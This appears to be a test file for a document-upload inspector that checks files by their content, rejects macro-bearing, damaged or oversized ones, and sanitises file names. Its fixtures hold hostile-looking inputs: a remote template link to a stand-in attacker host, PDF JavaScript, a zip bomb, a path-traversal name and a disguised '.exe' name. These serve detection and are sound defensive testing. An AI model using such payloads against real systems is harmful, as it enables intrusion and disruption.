// Files are known by their content, whatever they are called.
import { expect, test } from 'vitest';
import { inspect, namedFile } from '../../desk/attachments.ts';
import { docx, odt, PDF, zip } from '../zips.ts';

test.each([
  ['a PDF', PDF, 'pdf'],
  ['a Word document', docx(), 'docx'],
  ['an OpenDocument text', odt(), 'odt'],
])('%s is taken', async (_what, bytes, kind) => {
  expect(await inspect(bytes)).toBe(kind);
});

test.each([
  ['macros in Word', docx([{ name: 'word/vbaProject.bin', content: 'x' }]), 'macros'],
  ['a type with macros', docx([], 'application/vnd.ms-word.document.macroEnabled.main+xml'), 'macros'],
  [
    'a template from elsewhere',
    docx([
      {
        name: 'word/_rels/settings.xml.rels',
        content: '<Relationship Type="x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>',
      },
    ]),
    'macros',
  ],
  ['macros in OpenDocument', odt([{ name: 'Basic/Standard/script-lc.xml', content: 'x' }]), 'macros'],
  ['a PDF that runs', Buffer.concat([PDF, Buffer.from('<</S/JavaScript/JS(x)>>')]), 'macros'],
  ['a bomb', docx([{ name: 'word/media/a.xml', content: Buffer.alloc(80 * 1024 * 1024) }]), 'bomb'],
  [
    'a bomb whose header lies',
    docx([{ name: 'word/media/a.xml', content: Buffer.alloc(80 * 1024 * 1024), says: 9 }]),
    'damaged',
  ],
  ['a ZIP that is cut off', docx().subarray(0, 200), 'damaged'],
  ['a PDF that is cut off', PDF.subarray(0, 30), 'damaged'],
  ['a ZIP of anything', zip([{ name: 'a.txt', content: 'x' }]), 'kind'],
  ['a program', Buffer.from('MZ\u0090\u0000\u0003\u0000'), 'kind'],
  ['nothing', Buffer.alloc(0), 'kind'],
])('%s is not', async (_what, bytes, fault) => {
  expect(await inspect(bytes)).toEqual({ fault });
});

test('a name loses its folders and gets the ending of what it is', () => {
  expect(namedFile('C:\\Users\\anna\\Min besvarelse.PDF', 'pdf')).toBe('Min besvarelse.pdf');
  expect(namedFile('../../etc/passwd', 'docx')).toBe('passwd.docx');
  expect(namedFile('faktura.pdf.exe', 'pdf')).toBe('faktura.pdf.pdf');
  expect(namedFile('\r\n".docx', 'docx')).toBe('besvarelse.docx');
});
